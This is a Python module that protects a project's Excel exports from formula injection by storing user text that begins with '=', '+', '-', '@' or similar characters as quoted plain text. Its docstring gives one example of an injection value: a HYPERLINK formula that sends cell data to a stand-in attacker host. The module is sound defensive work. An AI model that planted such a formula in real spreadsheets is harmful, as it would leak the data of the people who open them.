"""Excel files the project writes: user text stays text.

openpyxl stores a string that starts with «=» as a formula, and Excel runs a cell that starts
with «=», «+», «-» or «@» as one as soon as somebody edits it: a school that names itself
``=HYPERLINK("http://evil.example/?"&A1;"Открыть")`` would plant a live link in the
coordinator's export. Every export saves its workbook through :func:`workbook_bytes`, which
writes such text as a plain string with Excel's «quote prefix» (the hidden apostrophe of a
cell typed as ``'=1+1``): the text reads back unchanged, shows as typed, and stays text when
edited. Numbers, dates and booleans are left as they are; the project writes no formulas.
"""

from __future__ import annotations

import io

# What Excel (and LibreOffice) take for the start of a formula; tab and carriage return
# hide one from a reader of the cell.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value) -> bool:
    """«=1+1», «+7 913…», «-2», «@SUM(A1)», «\\t=cmd» → True; «1+1», 5, None → False."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def as_text(cell):
    """Make ``cell`` hold its string as text, never as a formula; other values pass."""
    if looks_like_formula(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def workbook_bytes(book) -> bytes:
    """The .xlsx file of ``book`` with every formula-like string written as text."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                as_text(cell)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
